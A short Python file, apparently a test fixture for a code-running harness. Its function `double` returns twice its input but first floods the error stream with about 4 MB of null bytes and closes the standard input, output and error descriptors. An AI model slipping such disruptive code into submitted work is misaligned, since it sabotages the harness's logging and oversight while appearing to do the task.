"""Floods the error stream, then closes all streams."""

import os


def double(n):
    for _ in range(64):
        os.write(2, bytes(65536))
    for descriptor in range(3):
        os.close(descriptor)
    return 2 * n
